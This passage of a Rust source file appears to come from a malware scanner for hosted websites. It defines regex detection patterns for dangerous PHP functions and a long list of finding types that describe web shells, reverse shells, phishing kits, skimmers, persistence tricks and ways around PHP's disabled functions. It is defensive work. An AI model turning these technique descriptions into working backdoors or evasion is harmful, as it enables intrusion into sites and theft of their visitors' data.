//! Detectors: pure functions from a file's path and bytes to findings. PHP is tokenized
//! (`php`) and data followed from request input, decoders and downloads into code, shell and
//! file sinks (`taint`); server and PHP configuration files have their own rules (`conf`).
//! A path (an upload folder, a must-use plugin) never flags a file on its own: it only raises
//! the weight of what the content shows.

use std::sync::LazyLock;

use regex::bytes::Regex;

use super::{app, conf, deface, php, programs, script, shapes, spam, taint};

/// Every way a PHP file can reach a sink the analysis knows (`taint`): a file without any of
/// these words or a call through a value cannot give a finding, so it is not tokenized. Byte
/// regex, ASCII word boundaries, compiled once per process.
static MAY_REACH_A_SINK: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(concat!(
        r"(?i-u)\b(?:eval|assert|create_function|preg_replace|preg_filter|mb_eregi?_replace|system|exec|",
        r"shell_exec|passthru|popen|proc_open|pcntl_exec|expect_popen|file_put_contents|fwrite|fputs|",
        r"move_uploaded_file|copy|rename|call_user_func(?:_array)?|array_map|array_filter|",
        r"array_walk(?:_recursive)?|array_reduce|u[ak]?sort|register_shutdown_function|",
        r"register_tick_function|ob_start|iterator_apply|forward_static_call(?:_array)?|",
        r"set_error_handler|set_exception_handler|preg_replace_callback|header_register_callback|",
        r"mb_eregi?_replace_callback|spl_autoload_register|(?:sqlite)?create(?:function|aggregate)|FETCH_FUNC|registerPHPFunctions|",
        r"array_u(?:diff|intersect)(?:_u?assoc)?|array_(?:diff|intersect)_u(?:assoc|key)|",
        r"base64_decode|gzinflate|gzuncompress|gzdecode|str_rot13|strrev|hex2bin|pack|urldecode|",
        r"rawurldecode|openssl_decrypt|mcrypt_decrypt|lzf_decompress|convert_uudecode|bzdecompress|",
        r"extract|parse_str|include|include_once|require|require_once|load_template|ReflectionFunction|SplFileObject|",
        r"wp_insert_user|wp_create_user|wp_update_user|pre_user_query|(?:imap_|mb_send_)?mail)\b",
        // A call through a value, also with a comment before its `(` (`$f/**/(`).
        r"|`|\$[a-z0-9_\x80-\xff]+\s*(?:/\*[^\n]{0,40}?\*/\s*)*\(|[\])}]\s*\(",
        // A login form's password read: where it is sent is followed too.
        r#"|_(?:POST|REQUEST|GET)\s*\[\s*['"](?:pwd|pass1|user_pass|passwd)['"]"#,
    ))
    .expect("pattern compiles")
});

/// Why a file looks suspicious.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, serde::Serialize, serde::Deserialize)]
pub enum Why {
    /// PHP or another executable in a folder meant for uploads or media (raises weight only).
    ExecutableInUploads,
    /// `.htaccess`/`.user.ini`/`php.ini` makes PHP run a file before or after every page.
    PrependAppend,
    /// `.htaccess` makes images, other data files or invented endings run as PHP or CGI.
    HandlerOnData,
    /// `.htaccess` redirects depending on the visitor's browser or where they came from.
    ConditionalRedirect,
    /// `.htaccess` redirects to another domain.
    ForeignRedirect,
    /// A WordPress must-use plugin or drop-in (raises weight only).
    WordPressAutoload,
    /// Decoded, hidden or assembled data run as code or as a command.
    EvalOfDecoded,
    /// A long encoded blob fed to decoders.
    EncodedBlob,
    /// `preg_replace` with the `/e` modifier (runs the replacement as code).
    PregReplaceEval,
    /// A function name taken from the request.
    DynamicCallFromInput,
    /// A shell command taken from the request.
    ShellFromInput,
    /// Changed after the attack time.
    ModifiedAfterAttack,
    /// Anyone on the server may change it.
    WorldWritable,
    /// Request data run as PHP code (eval, assert, include…).
    CodeFromInput,
    /// Code downloaded from the internet and run.
    CodeFromInternet,
    /// A dangerous function called under a hidden or assembled name.
    HiddenFunctionName,
    /// `eval` of a value of unknown origin (weak on its own).
    EvalOfVariable,
    /// Saves uploaded files or request data as files on the server.
    UploadDropper,
    /// Includes a data file (image, icon, text) as PHP code.
    IncludeOfData,
    /// PHP code kept under a picture's, icon's, font's or style sheet's name: no visitor is
    /// served it as a page, only another file's include runs it (a loader's hidden payload).
    PhpUnderDataName,
    /// `.htaccess` blocks every PHP file except a few chosen ones.
    PhpLockdown,
    /// `.htaccess` lets every PHP file run again in a folder (beside an attacker's own files).
    PhpReallowed,
    /// Server-side includes that run commands.
    SsiExec,
    /// PHP settings that switch protections off (`disable_functions = none`, `allow_url_include`).
    PhpWeakened,
    /// Too large to read whole: only the start was checked.
    TooLarge,
    /// Matched by one of the host's own rules or scanners (YARA, maldet).
    HostRule,
    /// Makes or hides a site administrator on a secret request.
    AdminBackdoor,
    /// Sends mail to addresses and with headers a visitor chooses (a spam sender).
    MailFromInput,
    /// `.htaccess` sends page addresses to a hidden script, one in an upload folder, or one
    /// with a made-up name that is given each page name (a doorway kit's generator).
    RewriteToHiddenScript,
    /// `.htaccess` sends PHP files as text: anyone can read the code and its passwords.
    PhpSourceShown,
    /// `.htaccess` opens folder listings that follow links, to everyone (a symlink attack on
    /// other accounts' files).
    SymlinkBrowsing,
    /// Sets files' dates into the past (`touch`) so they look old and untouched.
    BackdatesFiles,
    /// The script deletes itself once it has run (a dropper covering its tracks).
    DeletesItself,
    /// Connects a shell on the server to a remote machine (a reverse or bind shell).
    RemoteShell,
    /// Takes orders from a chat server or floods other machines (an IRC bot, a flooder).
    NetworkBot,
    /// Shows search engines other content than visitors, fetched from another site.
    SearchEngineCloaking,
    /// Writes PHP code that runs what a visitor sends into a file (a dropper).
    WritesCodeWithInput,
    /// Runs a shell command that downloads a program and starts it.
    DownloadsProgram,
    /// A web-shell console: reads out the server and manages its files for a visitor.
    WebShellConsole,
    /// Hidden or foreign JavaScript put into a page (obfuscated, or from a throw-away domain).
    InjectedScript,
    /// Opens network connections to machines a visitor names (a proxy, port scanner, flooder).
    NetworkFromInput,
    /// Sends passwords or card numbers typed into a form to someone else (a phishing page).
    CredentialCollector,
    /// Reads other accounts' website files or links the server's folders into the site.
    ReadsOtherSites,
    /// Never ends, and in its loop writes a file back and makes it read-only (a watchdog that
    /// undoes a cleanup within a second).
    RewritesFilesForever,
    /// Prints the site's own settings file (`.env`, `wp-config.php`): its database password
    /// and keys for whoever opens the page.
    ShowsSiteSecrets,
    /// Mails the server's address and its own place on it to someone, or sends the site's name
    /// to another site from the top of a page (a planted file's beacon).
    ReportsItsLocation,
    /// Makes the database write a file onto the server (`INTO OUTFILE`/`DUMPFILE`).
    DatabaseWritesFile,
    /// Turns away security scanners and anti-phishing services (by address, host name, browser
    /// or referrer) so a phishing or scam page stays hidden from them.
    PhishingBotFilter,
    /// Holds a Telegram bot's key: where phishing kits and
    /// attackers' loggers send what they collect.
    ChatBotKey,
    /// A phishing kit's settings file: the mailbox the victims' data is sent to
    /// (`$Receive_email = "x@protonmail.com";`), alone or beside the switches of the kit's steps.
    KitMailbox,
    /// A program that mails a list of addresses from threads, through a proxy or under a
    /// made-up mail program's name: a spam sender.
    BulkMailer,
    /// A program that tries lists of passwords against other machines' logins (mail servers,
    /// cPanel, WordPress, a shop's admin): an intruder's cracker run from the account.
    PasswordCracker,
    /// A WordPress plugin whose header names WordPress itself as its author: WordPress ships
    /// no plugin so; intruders dress their backdoors as core parts.
    PluginPosesAsWordPress,
    /// Written to be unreadable: PHP's own names (its globals, the server's keys, decoders)
    /// spelled in escape codes, or every text kept in an encrypted table, so that no search
    /// finds them.
    ObfuscatedNames,
    /// Runs commands through another engine: Windows' scripting host (`WScript.Shell`), PHP's
    /// embedded Perl, or the Windows shell named by `COMSPEC`.
    ShellObject,
    /// Starts a program of its own from the current or a temporary folder, in the background
    /// (a miner, a bot, a proxy).
    StartsProgram,
    /// Writes PHP code that runs a hidden (encoded) payload into files (an injector).
    InjectsHiddenCode,
    /// Deletes or empties the server's logs and shell histories (covering an intrusion).
    ErasesLogs,
    /// Looks its own site up in Safe Browsing or a domain blocklist (a spam doorway checking
    /// whether it has been found out).
    ChecksBlocklists,
    /// Changes, moves or deletes files whose names a visitor sends (a file manager).
    FileChangeFromInput,
    /// Shows any file of the server whose name a visitor sends (passwords and settings too).
    FileReadFromInput,
    /// A fake login page: it asks for the password of the email address its link carried
    /// (shown back unescaped, as phishing kits greet their victims).
    PhishingPage,
    /// Writes server settings (`.htaccess`) that make data files or invented endings run as
    /// PHP or CGI.
    PlantsServerConfig,
    /// Sends the visitor's cookies (their logins to sites) to a script that records them.
    StealsCookies,
    /// Puts code kept under a picture's name back into a PHP file or `.htaccess` (undoes a
    /// cleanup).
    RestoresFromDisguise,
    /// Mails data to an address it hides (encoded, or assembled letter by letter): a card or
    /// password skimmer.
    HiddenMailRecipient,
    /// A file manager anyone can open: it lists folders and deletes, renames or rewrites the
    /// files a visitor names.
    FileManagerShell,
    /// Sends each visitor to another site picked at random from a list (a spam or scam
    /// traffic redirector).
    TrafficRedirector,
    /// Prints or saves pages fetched from another site whose address names this site (a spam
    /// doorway: the remote server serves each hacked site its own pages).
    SpamDoorway,
    /// Many links to other sites in a part of the page visitors never see (hidden or moved off
    /// the screen): search-engine spam.
    HiddenLinks,
    /// A phishing kit's entry page: it copies the kit into a folder with a random name and
    /// sends the visitor there (a fresh address per victim, unknown to blocklists).
    KitCopier,
    /// Tells a search engine's crawler (Google's, Bing's) that the page does not exist (a false
    /// `404`), so that the page stays out of search results and blocklists: phishing kits' gates
    /// and web shells do this; a site never hides from the engine it wants to be found by.
    HidesFromSearchEngines,
    /// A page an intruder put up to claim the break-in ("Hacked by …") in its title, a heading
    /// or as the whole of a short file: a defacement.
    Defacement,
    /// A program that walks folders and puts one file in place of every site's home page
    /// (`index.html`, `index.php`): a mass defacer.
    MassDefacer,
    /// A page of online-gambling advertising ("slot gacor", "maxwin") planted to rank under
    /// the site's name.
    GamblingSpam,
    /// Keeps a list of hundreds of search phrases and makes a page for whichever one an address
    /// asks for (a `404` for any other): a keyword doorway that puts spam pages under the
    /// site's name.
    KeywordDoorway,
    /// Writes what a request sends into the site's posts or database behind a password written
    /// in the file, or from a script that loads WordPress from outside it (a link injector's
    /// remote control).
    RemoteSpamControl,
    /// Keeps a WordPress administrator out of the list of users, or makes one with a password
    /// written in the file.
    HiddenAdministrator,
    /// A WordPress plugin that takes itself out of the list of plugins, or takes away its own
    /// "Deactivate" link.
    HidesItsPlugin,
    /// A PHP block that only loads another file, glued in front of the file's own code.
    LoaderInFront,
    /// A page template that prints what another site's fixed address answers.
    PrintsRemoteContent,
    /// Installs a crontab from PHP (a shell call to `crontab`) with a schedule written in the
    /// file: the attacker's script is started again and again, also after it was removed.
    InstallsCronJob,
    /// Posts what visitors send (the whole request: forms, logins, payments) on to a web
    /// address it hides in its code: a server-side skimmer.
    SendsRequestToHiddenAddress,
    /// Gets round the functions the host disabled in PHP (`disable_functions`) to run programs:
    /// an exploit of PHP's memory (`zif_system` found in the process), a library preloaded into
    /// the mail program (`LD_PRELOAD`), Shellshock through the environment, or a command hidden
    /// in an IMAP address (`-oProxyCommand`).
    BypassesPhpLimits,
    /// Writes cPanel's list of the account's mail passwords (`~/etc/DOMAIN/shadow`) with a hash
    /// it made: every mailbox gets the intruder's password (to send spam as the site).
    RewritesMailPasswords,
    /// A program that renames its own process after one of the server's (`$0 = "httpd"`) and
    /// runs on in the background with a connection: a bot hiding from whoever lists processes.
    HidesAsSystemProcess,
    /// A program that stops the other programs hogging the server or listening on miners'
    /// ports (`ps … | xargs kill -9`, `pkill -f` over a list): a cryptocurrency miner's
    /// installer clearing its rivals.
    KillsRivals,
    /// A program that writes a fixed SSH key into `authorized_keys`: a way back in that no
    /// password change closes.
    AddsSshKey,
    /// A program that tries a known hole in the server's system to become its administrator
    /// (root): a local privilege-escalation exploit an intruder brought along.
    LocalRootExploit,
    /// A script that writes the cPanel account's contact address (`~/.contactemail`,
    /// `~/.cpanel/contactinfo`): the intruder's address gets the password-reset mail, and with
    /// it the whole account.
    ChangesAccountContact,
    /// A whole script that loads another site's script into the pages: to be checked (a
    /// hacked library's appended loader, or a small service the site uses).
    LoadsForeignScript,
    /// The checks failed on this file (a fault of ours): nothing is known of its content.
    CheckFailed,
}

impl Why {
    /// A stable name for scripts (`scan --json`).
    pub fn id(self) -> &'static str {
        match self {
            Why::ExecutableInUploads => "executable_in_uploads",
            Why::PrependAppend => "prepend_append",
            Why::HandlerOnData => "handler_on_data",
            Why::ConditionalRedirect => "conditional_redirect",
            Why::ForeignRedirect => "foreign_redirect",
            Why::WordPressAutoload => "word_press_autoload",
            Why::EvalOfDecoded => "eval_of_decoded",
            Why::EncodedBlob => "encoded_blob",
            Why::PregReplaceEval => "preg_replace_eval",
            Why::DynamicCallFromInput => "dynamic_call_from_input",
            Why::ShellFromInput => "shell_from_input",
            Why::ModifiedAfterAttack => "modified_after_attack",
            Why::WorldWritable => "world_writable",
            Why::CodeFromInput => "code_from_input",
            Why::CodeFromInternet => "code_from_internet",
            Why::HiddenFunctionName => "hidden_function_name",
            Why::EvalOfVariable => "eval_of_variable",
            Why::UploadDropper => "upload_dropper",
            Why::IncludeOfData => "include_of_data",
            Why::PhpUnderDataName => "php_under_data_name",
            Why::PhpLockdown => "php_lockdown",
            Why::PhpReallowed => "php_reallowed",
            Why::SsiExec => "ssi_exec",
            Why::PhpWeakened => "php_weakened",
            Why::TooLarge => "too_large",
            Why::HostRule => "host_rule",
            Why::AdminBackdoor => "admin_backdoor",
            Why::MailFromInput => "mail_from_input",
            Why::RewriteToHiddenScript => "rewrite_to_hidden_script",
            Why::PhpSourceShown => "php_source_shown",
            Why::SymlinkBrowsing => "symlink_browsing",
            Why::BackdatesFiles => "backdates_files",
            Why::DeletesItself => "deletes_itself",
            Why::RemoteShell => "remote_shell",
            Why::NetworkBot => "network_bot",
            Why::SearchEngineCloaking => "search_engine_cloaking",
            Why::WritesCodeWithInput => "writes_code_with_input",
            Why::DownloadsProgram => "downloads_program",
            Why::WebShellConsole => "web_shell_console",
            Why::InjectedScript => "injected_script",
            Why::NetworkFromInput => "network_from_input",
            Why::CredentialCollector => "credential_collector",
            Why::ReadsOtherSites => "reads_other_sites",
            Why::ShowsSiteSecrets => "shows_site_secrets",
            Why::RewritesFilesForever => "rewrites_files_forever",
            Why::ReportsItsLocation => "reports_its_location",
            Why::DatabaseWritesFile => "database_writes_file",
            Why::PhishingBotFilter => "phishing_bot_filter",
            Why::ChatBotKey => "chat_bot_key",
            Why::KitMailbox => "kit_mailbox",
            Why::BulkMailer => "bulk_mailer",
            Why::PasswordCracker => "password_cracker",
            Why::PluginPosesAsWordPress => "plugin_poses_as_wordpress",
            Why::ObfuscatedNames => "obfuscated_names",
            Why::ShellObject => "shell_object",
            Why::StartsProgram => "starts_program",
            Why::InjectsHiddenCode => "injects_hidden_code",
            Why::ErasesLogs => "erases_logs",
            Why::ChecksBlocklists => "checks_blocklists",
            Why::FileChangeFromInput => "file_change_from_input",
            Why::FileReadFromInput => "file_read_from_input",
            Why::PhishingPage => "phishing_page",
            Why::PlantsServerConfig => "plants_server_config",
            Why::StealsCookies => "steals_cookies",
            Why::RestoresFromDisguise => "restores_from_disguise",
            Why::HiddenMailRecipient => "hidden_mail_recipient",
            Why::FileManagerShell => "file_manager_shell",
            Why::TrafficRedirector => "traffic_redirector",
            Why::SpamDoorway => "spam_doorway",
            Why::HiddenLinks => "hidden_links",
            Why::KitCopier => "kit_copier",
            Why::HidesFromSearchEngines => "hides_from_search_engines",
            Why::Defacement => "defacement",
            Why::MassDefacer => "mass_defacer",
            Why::GamblingSpam => "gambling_spam",
            Why::KeywordDoorway => "keyword_doorway",
            Why::RemoteSpamControl => "remote_spam_control",
            Why::HiddenAdministrator => "hidden_administrator",
            Why::HidesItsPlugin => "hides_its_plugin",
            Why::LoaderInFront => "loader_in_front",
            Why::PrintsRemoteContent => "prints_remote_content",
            Why::InstallsCronJob => "installs_cron_job",
            Why::SendsRequestToHiddenAddress => "sends_request_to_hidden_address",
            Why::BypassesPhpLimits => "bypasses_php_limits",
            Why::RewritesMailPasswords => "rewrites_mail_passwords",
            Why::HidesAsSystemProcess => "hides_as_system_process",
            Why::KillsRivals => "kills_rivals",
            Why::AddsSshKey => "adds_ssh_key",
            Why::LocalRootExploit => "local_root_exploit",
            Why::ChangesAccountContact => "changes_account_contact",
            Why::LoadsForeignScript => "loads_foreign_script",
            Why::CheckFailed => "check_failed",
        }
    }
}

/// How dangerous a finding is, for ranking.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub enum Danger {
    Low,
    Medium,
    High,
    Critical,
}

impl Danger {
    fn raised(self) -> Danger {
        match self {
            Danger::Low => Danger::Medium,
            Danger::Medium => Danger::High,
            _ => Danger::Critical,
        }
    }
    pub fn as_str(self) -> &'static str {
        match self {
            Danger::Low => "low",
            Danger::Medium => "medium",
            Danger::High => "high",
            Danger::Critical => "critical",
        }
    }
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Hit {
    pub why: Why,
    pub danger: Danger,
    /// 1-based line, when the finding is about a place in the text.
    pub line: Option<usize>,
    /// A short excerpt (≤ 120 characters) of the matching text.
    pub evidence: String,
}

impl Hit {
    pub fn meta(why: Why, danger: Danger, evidence: String) -> Hit {
        Hit { why, danger, line: None, evidence }
    }
}

/// (`.phps` is not: servers show it as highlighted source, never run it; a handler that makes
/// it run is an `.htaccess` finding.)
const PHP_EXTENSIONS: &[&str] = &["php", "php3", "php4", "php5", "php7", "php8", "phtml", "pht", "phar"];
const OTHER_EXEC: &[&str] = &["cgi", "pl", "py", "sh"];
const SSI_EXTENSIONS: &[&str] = &["shtml", "shtm", "stm"];
/// Static pages: read for a defacement only.
const HTML_EXTENSIONS: &[&str] = &["html", "htm"];
const JS_EXTENSIONS: &[&str] = &["js", "mjs"];
/// Pictures, icons, fonts and style sheets: data a server sends as it is, never PHP.
/// (Sound and video too: fresh160's OpenCart backdoor is `ZhzTPq.mov`, PHP from its first byte.)
const DATA_EXTENSIONS: &[&str] = &[
    "ico", "png", "gif", "jpg", "jpeg", "bmp", "webp", "svg", "css", "woff", "woff2", "ttf", "otf", "eot", "mp3",
    "mp4", "m4a", "wav", "ogg", "webm", "avi", "mov", "flv", "swf",
];
/// How much of a data file is read to tell whether it holds PHP code (`GIF89a;<?php …`, or
/// after a picture's header and markup: fresh147's `Boy.png`, `<?PHP` at byte 530; after a
/// small picture's whole data: fresh169's `bepasPNGya.jpg`, at byte 8,264) or server settings.
/// (One read, of four pages.)
pub const SNIFF: usize = 16 << 10;
/// How far the short open tag `<?=` is looked for (three bytes that a picture's data holds by
/// chance once in thousands of 4 KB heads; `<?php` is five).
const SHORT_TAG_SNIFF: usize = 512;
/// Perl, CGI, Python and shell programs.
/// (`alfa`: the ALFA web shell's CGI helpers, `alfacgiapi/*.alfa`, which the shell's own
/// `.htaccess` makes CGI scripts.)
const PROGRAM_EXTENSIONS: &[&str] = &["pl", "cgi", "py", "sh", "bash", "alfa"];
/// Folder names (exact, lowercase) meant for uploaded or media files, never for code.
/// (`upload` and `media` are not: OpenCart ships its whole shop in `upload/`, Drupal and
/// Joomla have code in `media` folders.)
const UPLOAD_DIRS: &[&str] = &["uploads", "images", "img", "tmp"];
const DROP_INS: &[&str] = &[
    "advanced-cache.php",
    "db.php",
    "db-error.php",
    "install.php",
    "maintenance.php",
    "object-cache.php",
    "sunrise.php",
    "fatal-error-handler.php",
];
/// Fewer significant tokens than this: a small script, where even a weak sign counts more
/// (droppers and loaders are a few lines).
const SMALL_SCRIPT: usize = 400;
/// At most this many places of one file are checked for the application around them (each
/// walks back through the blocks around it).
const MAX_OWNED_CHECKS: usize = 32;
/// At most this many tokens are kept for one file (memory bound).
const MAX_TOKENS: usize = 2_000_000;

pub fn extension(name: &str) -> Option<String> {
    name.rsplit_once('.').map(|(_, e)| e.to_ascii_lowercase())
}

/// Whether a file is named as data (a picture, icon, font or style sheet), where PHP code or
/// server settings would be hidden from the site's owner: its first `SNIFF` bytes are worth a
/// look.
pub fn named_as_data(name: &str) -> bool {
    extension(name).is_some_and(|e| DATA_EXTENSIONS.contains(&e.as_str()))
}

/// Endings common in a site's files that the server neither runs by their name nor that hide
/// code there (documents, translations, data, archives, media, other code read by the
/// application itself): their first bytes are not read. Any other ending, or none, is
/// `named_as_nothing`.
const QUIET_ENDINGS: &[&str] = &[
    "json",
    "txt",
    "md",
    "markdown",
    "rst",
    "mo",
    "po",
    "pot",
    "sql",
    "less",
    "scss",
    "sass",
    "styl",
    "twig",
    "xlf",
    "xliff",
    "xml",
    "yml",
    "yaml",
    "map",
    "dist",
    "lock",
    "csv",
    "tsv",
    "log",
    "gz",
    "zip",
    "tar",
    "tgz",
    "bz2",
    "xz",
    "rar",
    "7z",
    "pdf",
    "doc",
    "docx",
    "xls",
    "xlsx",
    "ppt",
    "pptx",
    "odt",
    "ods",
    "rtf",
    "psd",
    "tif",
    "tiff",
    "avif",
    // (Not `inc`: PHP an application includes, where a payload waits for an injected `@include`
    // too — fresh102's `.267645c4.inc`; read as PHP when it starts as PHP.)
    "module",
    "install",
    "theme",
    "engine",
    "profile",
    "test",
    "tpl",
    "phpt",
    "stub",
    "vue",
    "ts",
    "tsx",
    "jsx",
    "coffee",
    "mustache",
    "hbs",
    "ejs",
    "latte",
    "neon",
    "java",
    "go",
    "rs",
    // (Not `c`: a program saved under a C source's name, `Backdoor.Perl.Small.c`, starts with
    // its `#!` line, which no C source has.)
    "h",
    "cpp",
    "lua",
    "gitignore",
    "gitattributes",
    "gitkeep",
    "editorconfig",
];

/// Whether a file's name says nothing the server or a site knows: no ending (`license`), or
/// one neither code, page, script, data nor a common document's (`css.cin`, `sym.conf`). Its
/// first `SNIFF` bytes are read for a program's `#!` line or server settings: a handler beside
/// it (`AddHandler cgi-script .cin`) runs such a program as CGI, and settings kept under such a
/// name wait to be copied back over the site's `.htaccess`. PHP code under such a name is a
/// payload an injected `include` loads (fresh98's `.b12e79b3.oti`): it is read as the PHP it
/// is, and reported for what its code does.
pub fn named_as_nothing(name: &str) -> bool {
    !wants_content(name) && !named_as_data(name) && extension(name).is_none_or(|e| !QUIET_ENDINGS.contains(&e.as_str()))
}

/// Where PHP's open tag (`<?php`, any case, or `<?=`) is in the first `SNIFF` bytes of a
/// file, if it is; or the short tag (`<?` and a space) that starts it (old shells,
/// fresh103's AnakDompu).
pub fn php_tag_in_head(text: &[u8]) -> Option<usize> {
    if text.len() > 2 && text.starts_with(b"<?") && text[2].is_ascii_whitespace() {
        return Some(0);
    }
    let head = &text[..text.len().min(SNIFF)];
    let short = head[..head.len().min(SHORT_TAG_SNIFF)].windows(3).position(|w| w == b"<?=");
    let long = || {
        memchr::memmem::find_iter(head, b"<?")
            .find(|&k| head.get(k + 2..k + 5).is_some_and(|w| w.eq_ignore_ascii_case(b"php")))
    };
    match (short, long()) {
        (Some(a), Some(b)) => Some(a.min(b)),
        (a, b) => a.or(b),
    }
}

pub fn is_php(name: &str) -> bool {
    extension(name).is_some_and(|e| PHP_EXTENSIONS.contains(&e.as_str()))
}

fn is_ssi(name: &str) -> bool {
    extension(name).is_some_and(|e| SSI_EXTENSIONS.contains(&e.as_str()))
}

fn is_html(name: &str) -> bool {
    extension(name).is_some_and(|e| HTML_EXTENSIONS.contains(&e.as_str()))
}

fn is_js(name: &str) -> bool {
    extension(name).is_some_and(|e| JS_EXTENSIONS.contains(&e.as_str()))
}

fn is_program(name: &str) -> bool {
    extension(name).is_some_and(|e| PROGRAM_EXTENSIONS.contains(&e.as_str()))
}

/// A Perl, Python or shell program kept under a page's or a script's ending (`themes.js`
/// starting `#!/usr/bin/perl`, run as CGI by a handler beside it), or under an ending that
/// says nothing (`css.cin`, `sym.conf`, none): read as the program it is.
/// (Node's own scripts start `#!/usr/bin/env node` and stay JavaScript.)
fn foreign_program(name: &str, text: &[u8]) -> bool {
    (is_js(name) || is_html(name) || named_as_nothing(name)) && program_line(text)
}

/// Whether a text starts with a `#!` line naming Perl, Python or a shell: the first line, or
/// one after the comment lines a collection put on top (`# Author : …` then
/// `#!/usr/bin/perl`, which Perl reads as a comment); a byte-order mark before it is skipped.
fn program_line(text: &[u8]) -> bool {
    let text = text.strip_prefix(b"\xEF\xBB\xBF").unwrap_or(text);
    let head = &text[..text.len().min(SNIFF)];
    let Some(line) = head
        .split(|c| *c == b'\n')
        .map(<[u8]>::trim_ascii)
        .find(|l| !(l.is_empty() || l.starts_with(b"#") && !l.starts_with(b"#!")))
        .filter(|l| l.starts_with(b"#!"))
    else {
        return false;
    };
    let line = &line[..line.len().min(128)];
    let has = |w: &[u8]| memchr::memmem::find(line, w).is_some();
    has(b"perl")
        || has(b"python")
        || has(b"/sh")
        || has(b" sh")
        || has(b"bash")
        || has(b"dash")
        || has(b"ksh")
        || has(b"zsh")
        || has(b"ruby")
}

/// Whether a file sits in a `cgi-bin` folder, where cPanel's Apache runs any file as CGI,
/// whatever its name.
pub fn in_cgi_bin(rel: &str) -> bool {
    rel.split('/').rev().skip(1).any(|d| d == "cgi-bin")
}

/// Whether a file not read for its name (`wants_content`) has its first `SNIFF` bytes read:
/// a picture's, icon's or style sheet's name (PHP or server settings in disguise), a name
/// that says nothing, or any file in `cgi-bin` (a program or server settings; the walk says
/// whether the file is in one).
pub fn sniffed(name: &str, in_cgi_bin: bool) -> bool {
    !wants_content(name) && (named_as_data(name) || named_as_nothing(name) || in_cgi_bin || is_text_note(name))
}

/// A `.txt` file: read only when it starts as a program (`#!/usr/bin/perl`): bots and
/// scanners are kept as text, fetched by `wget` and started with `perl x.txt` (fresh95's IRC
/// bots); or as PHP (a shell's copy, a loader's payload: fresh129's test samples).
fn is_text_note(name: &str) -> bool {
    extension(name).is_some_and(|e| e == "txt")
}

fn is_conf(name: &str) -> bool {
    matches!(name, ".htaccess" | ".user.ini" | "php.ini")
}

/// Whether a file's text needs reading: PHP, server-side include pages, `.htaccess`,
/// `.user.ini`, `php.ini`, static HTML pages (for a defacement or an added script),
/// JavaScript (for an added script), and Perl, Python and shell programs (for what intruders'
/// programs do).
pub fn wants_content(name: &str) -> bool {
    is_code(name) || is_html(name) || is_js(name) || is_program(name)
}

/// Whether a file is code or server settings: what the server runs or obeys. A change to one
/// after the attack, or one too large to read whole, is worth a look; a static page's is not.
pub fn is_code(name: &str) -> bool {
    runs_as_php(name) || is_conf(name) || is_ssi(name)
}

/// Whether the server may run a file as PHP: a PHP ending, or one before the last
/// (`index.php.old`, `x.php.suspected`, `x.php.txt`). cPanel's MultiPHP maps `.php` to PHP with
/// `AddHandler`, and Apache applies a handler for any of a name's endings: such a copy still
/// runs when asked for. (Under a data ending, `x.php.jpg`, a file is only read when its first
/// bytes are PHP: `disguised`.)
pub fn runs_as_php(name: &str) -> bool {
    is_php(name) || (!named_as_data(name) && php_before_last(name))
}

/// Whether the ending before a name's last one is a PHP ending (`index.php.old`).
fn php_before_last(name: &str) -> bool {
    let mut parts = name.rsplit('.');
    let (_, Some(inner), Some(_)) = (parts.next(), parts.next(), parts.next()) else { return false };
    PHP_EXTENSIONS.iter().any(|e| inner.eq_ignore_ascii_case(e))
}

/// How PHP code starts when it has no open tag (a payload saved to be run by `eval`): after
/// comments, a variable assigned or indexed, a statement calling a function (`@ini_set(…);`,
/// `eval(…);`), or `if (`, `function`, `foreach (`. Templates (`@extends('x')`, `{{ $a }}`),
/// text and markup start otherwise.
static TAGLESS_CODE: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(concat!(
        r"(?s-u)\A\s*(?:(?://[^\n]*\n|#[^\n]*\n|/\*.*?\*/)\s*)*",
        r"(?:\$[A-Za-z_][A-Za-z0-9_]*\s*(?:=|\[|->|\.=)|@?[A-Za-z_][A-Za-z0-9_]*\s*\([^\n;{}]*\)\s*;|(?:if|function|foreach)\s*\()",
    ))
    .expect("pattern compiles")
});

/// A call whose one line runs past the part of the file `TAGLESS_CODE` reads
/// (`eval(base64_decode("…27 KB…"));`): it starts like code as well.
static TAGLESS_LONG_CALL: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?s-u)\A\s*(?:(?://[^\n]*\n|#[^\n]*\n|/\*.*?\*/)\s*)*@?[A-Za-z_][A-Za-z0-9_]*\s*\([^\n;{}]*\z")
        .expect("pattern compiles")
});

/// How much of a file is read to tell whether it starts like code.
const TAGLESS_HEAD: usize = 4096;

/// Whether a PHP file is code without an open tag (no PHP opening anywhere, and starting like
/// code): read from its first byte, not as a page of text.
/// (A `<?xml` the code writes in a string is no opening: the doorways caught by a honeypot
/// without their first line write a sitemap, `"<?xml version=…"`.)
fn tagless_code(text: &[u8]) -> bool {
    let opening = |at: usize| {
        let rest = &text[at + 2..];
        rest.first().is_none_or(|c| c.is_ascii_whitespace() || *c == b'=')
            || rest.get(..3).is_some_and(|w| w.eq_ignore_ascii_case(b"php"))
    };
    if memchr::memmem::find_iter(text, b"<?").any(opening) {
        return false;
    }
    let head = &text[..text.len().min(TAGLESS_HEAD)];
    TAGLESS_CODE.is_match(head) || (text.len() > TAGLESS_HEAD && TAGLESS_LONG_CALL.is_match(head))
}

/// A file under a script's name that holds nothing but one block of base64, which decodes to PHP
/// code (a copy of an infected page kept to be written back after a cleanup, behind a few
/// letters that stop a plain decoding). Served, it is text; only a dropper reading it uses it.
/// An application's data file in base64 (a list of its files' checksums) decodes to no code.
fn encoded_code_store(text: &[u8]) -> Option<usize> {
    let text = text.trim_ascii();
    let b64 = |c: &u8| c.is_ascii_alphanumeric() || matches!(c, b'+' | b'/' | b'=' | b'\r' | b'\n');
    if text.len() < MIN_CODE_STORE || !text[..ENCODED_HEAD].iter().all(b64) || !text.iter().all(b64) {
        return None;
    }
    let compact: Vec<u8> = text.iter().copied().filter(|c| !c.is_ascii_whitespace()).take(ENCODED_DECODED).collect();
    // (Counted without its line breaks: a file of blank lines is no store.)
    if compact.len() < MIN_CODE_STORE {
        return None;
    }
    (0..MAX_JUNK_LETTERS).find_map(|skip| {
        let run = compact.get(skip..)?;
        let code = base64_decoded(&run[..run.len() / 4 * 4])?;
